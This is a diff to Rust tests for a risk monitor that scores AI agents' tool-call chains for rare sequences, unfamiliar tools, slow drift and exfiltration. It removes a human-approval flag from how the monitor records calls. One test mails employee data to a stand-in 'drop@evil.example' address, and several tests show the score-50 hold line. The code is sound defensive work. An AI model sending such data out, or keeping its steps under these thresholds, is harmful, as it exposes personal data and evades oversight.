@@ -81,7 +81,7 @@ impl Call {
 fn run(b: &Behaviour, c: &Call) -> Risk {
     let (risk, observed) = b.assess(&c.shape());
     if risk.score < 50 {
-        b.record(&c.shape(), &risk, &observed, false);
+        b.record(&c.shape(), &risk, &observed);
     }
     risk
 }
@@ -211,12 +211,13 @@ fn small_steps_off_the_task_add_up_to_slow_drift() {
             run(&b, &Call { chain, ..step });
         }
     }
-    // Each step alone is a rare transition between tools onboarding uses, under the hold line.
+    // Each step alone is a rare transition or a tool these chains never called, under the hold
+    // line.
     run(&b, &read_employee());
     let first = run(&b, &call("calendar/book", "internal", Action::Write));
-    assert_eq!((first.signals.clone(), first.score), (vec!["rare_sequence".to_owned()], 20), "{first:?}");
+    assert_eq!((first.signals.clone(), first.score), (vec!["rare_sequence".to_owned()], 10), "{first:?}");
     let second = run(&b, &call("it/order_equipment", "internal", Action::Write));
-    assert_eq!(second.signals, ["rare_sequence"]);
+    assert_eq!(second.signals, ["unfamiliar_tool"], "never called in these chains");
     let third = run(&b, &call("hr/read_employee", "pii", Action::Read).on("hr://employees/e-2"));
     assert!(third.signals.contains(&"slow_drift".to_owned()), "{third:?}");
     assert!(third.score >= 50, "{third:?}");
@@ -239,7 +240,7 @@ fn a_category_in_learn_mode_hides_its_score_from_policy_and_learns_everything() 
     assert_eq!(risk.signals, ["exfiltration"]);
     assert!(!risk.enforced);
     assert_eq!(risk.for_policy(), (0, Vec::new()));
-    b.record(&mail().to("agency@recruit.example").shape(), &risk, &observed, false);
+    b.record(&mail().to("agency@recruit.example").shape(), &risk, &observed);
     assert_eq!(b.profile("hr.onboarding").destinations[0].name, "recruit.example");
 }
 
@@ -261,17 +262,18 @@ fn an_enforced_profile_learns_only_from_ordinary_or_approved_calls() {
     let mut odd = call("calendar/book", "internal", Action::Write);
     odd.chain = chain(999);
     let r = run(&b, &odd);
-    assert_eq!(r.signals, ["rare_sequence"], "never an agent's first call in {WARM} chains");
+    assert_eq!(r.signals, ["unfamiliar_tool"], "never called in {WARM} chains");
+    let mut reordered = call("directory/create_account", "internal", Action::Write);
+    reordered.chain = chain(998);
+    assert_eq!(run(&b, &reordered).signals, ["rare_sequence"], "never an agent's first call");
 
-    // An exfiltration, even if policy let it through, does not teach the profile its destination.
+    // An exfiltration, even if policy let it through (a person approved it), does not teach the
+    // profile its destination.
     let out = mail().to("drop@evil.example");
     run(&b, &read_employee());
     let (risk, observed) = b.assess(&out.shape());
-    b.record(&out.shape(), &risk, &observed, false);
+    b.record(&out.shape(), &risk, &observed);
     assert_eq!(b.profile("hr.onboarding").destinations, vec![]);
-    // A human's approval does.
-    b.record(&out.shape(), &risk, &observed, true);
-    assert_eq!(b.profile("hr.onboarding").destinations[0].name, "evil.example");
     assert!(b.reset("hr.onboarding"));
     assert_eq!(b.profile("hr.onboarding").calls, 0);
 }
@@ -314,7 +316,7 @@ fn a_chain_s_memory_is_bounded() {
             ..call(tool, "pii", if i % 2 == 0 { Action::Read } else { Action::Egress })
         };
         let (risk, observed) = b.assess(&c.shape());
-        b.record(&c.shape(), &risk, &observed, false);
+        b.record(&c.shape(), &risk, &observed);
         b.denied("c", tool, c.now, 10_000);
     }
     assert_eq!(b.chains(), 1);
@@ -342,7 +344,7 @@ fn a_chains_baseline_lasts_until_its_root_mandate_has_expired() {
     let record = |(c, expires): (Call, i64)| {
         let shape = CallShape { chain_expires_at: expires, ..c.shape() };
         let (risk, observed) = b.assess(&shape);
-        b.record(&shape, &risk, &observed, false);
+        b.record(&shape, &risk, &observed);
     };
     record(at("short", 500, 1_000));
     record(at("long", 500, 90_000));
